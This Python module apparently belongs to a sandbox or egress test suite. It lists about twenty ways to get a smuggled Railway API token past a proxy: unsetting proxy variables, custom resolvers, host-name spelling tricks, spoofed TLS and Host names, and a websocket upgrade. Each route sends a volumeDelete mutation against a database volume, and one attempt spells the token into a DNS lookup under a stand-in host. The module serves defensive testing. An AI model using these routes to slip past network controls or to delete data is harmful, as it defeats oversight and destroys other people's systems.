"""The raw token by every way out that is not the ordinary one: round the proxy, by address, by another name."""

from __future__ import annotations

import os
import socket
from functools import partial

from ..addresses import spellings
from ..hands import API, JSON, document, exchange, proxy
from ..targets import Targets
from . import Attempt
from .outcome import ABSENT, DONE, REFUSED, Result, of_api, try_api, worst

HOST = "backboard.railway.app"
PROXY_NAMES = ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy")
OTHER_HOST = "echo.rentals.example"


def attempts(targets: Targets) -> dict[str, Attempt]:
    """Name the attempts."""
    raw = targets.raw()
    if not raw:
        return {"any route": partial(Result, ABSENT, 0, "no token was smuggled in")}
    deletion = f'mutation {{ volumeDelete(volumeId: "{targets.database_volume}") }}'
    how = (*JSON, "-H", f"Authorization: Bearer {raw}", "-d", document(deletion))
    bare = {name: value for name, value in os.environ.items() if name not in PROXY_NAMES}
    request = _request(raw, deletion)
    found: dict[str, Attempt] = {
        "direct curl, as in the incident": partial(try_api, "-X", "POST", *how),
        "by the proxy, named explicitly": partial(_by_proxy, how),
        "proxy variables unset": partial(try_api, *how, environ=bare),
        "env -u": partial(try_api, *how, program=f"env {' '.join(f'-u {n}' for n in PROXY_NAMES)} curl"),
        "curl --noproxy": partial(try_api, "--noproxy", "*", *how),
        "own resolver": partial(try_api, "--resolve", f"{HOST}:443:{_address(targets)}", "-k", *how),
        "plain http": partial(try_api, *how, url=API.replace("https", "http")),
        "plain http on port 443": partial(try_api, *how, url=f"http://{HOST}:443/graphql/v2"),
        "the other host name": partial(try_api, *how, url=API.replace(".app", ".com")),
        "upper-case host": partial(try_api, *how, url=API.replace(HOST, HOST.upper())),
        "host with a dot": partial(try_api, *how, url=API.replace(HOST, f"{HOST}.")),
        "HTTP/2": partial(try_api, "--http2", *how),
        "HTTP/1.0": partial(try_api, "--http1.0", *how),
        "Python's own client": partial(_spoken, HOST, request),
        "by its address, without a name": partial(_by_resolved_address, how),
        "another TLS name": partial(_spoken, HOST, request, name=OTHER_HOST),
        "another CONNECT target": partial(_spoken, HOST, request, connect_to=f"{OTHER_HOST}:443"),
        "another Host header": partial(_spoken, OTHER_HOST, request),
        "websocket upgrade": partial(_spoken, HOST, _upgrade(raw)),
        "spelt in a DNS name": partial(_resolve, f"{raw}.rentals.example"),
    }
    by_address = ("-k", "-H", f"Host: {HOST}", *how)
    for name, url in _literal_urls(targets).items():
        found[f"by address, {name}"] = partial(try_api, *by_address, url=url)
        found[f"by address, no proxy, {name}"] = partial(try_api, "--noproxy", "*", *by_address, url=url)
    return found


def _spoken(host: str, data: bytes, **how: str) -> Result:
    return of_api(exchange(host, data, **how))


def _by_proxy(how: tuple[str, ...]) -> Result:
    if not proxy():
        return Result(ABSENT, 0, "no proxy is set")
    ways = (("-x", proxy()), ("-p", "-x", proxy()), ("--proxytunnel", "--proxy", proxy(), "--proxy-insecure"))
    return worst(try_api(*way, *how) for way in ways)


def _by_resolved_address(how: tuple[str, ...]) -> Result:
    try:
        address = socket.gethostbyname(HOST)
    except OSError as error:
        return Result(REFUSED, error.errno or 0, str(error))
    return try_api("-k", "--noproxy", "*", "-H", f"Host: {HOST}", *how, url=f"https://{address}/graphql/v2")


def _address(targets: Targets) -> str:
    return targets.platform_address.rpartition(":")[0] or "127.0.0.1"


def _literal_urls(targets: Targets) -> dict[str, str]:
    """Return the platform's listener on the machine outside, its address written in every way."""
    host, _, port = targets.platform_address.rpartition(":")
    if not host:
        return {}
    return {name: f"https://{way}:{port}/graphql/v2" for name, way in spellings(host).items()}


def _request(raw: str, deletion: str) -> bytes:
    body = document(deletion)
    return (
        f"POST /graphql/v2 HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {raw}\r\n"
        f"Connection: close\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    ).encode()


def _upgrade(raw: str) -> bytes:
    lines = (
        f"GET /graphql/v2 HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {raw}\r\nConnection: Upgrade, close\r\n"
        "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n"
    )
    return lines.encode()


def _resolve(name: str) -> Result:
    try:
        held = socket.getaddrinfo(name, 443)
    except OSError as error:
        return Result(REFUSED, error.errno or 0, str(error))
    return Result(DONE, 0, str(held[0][4]))
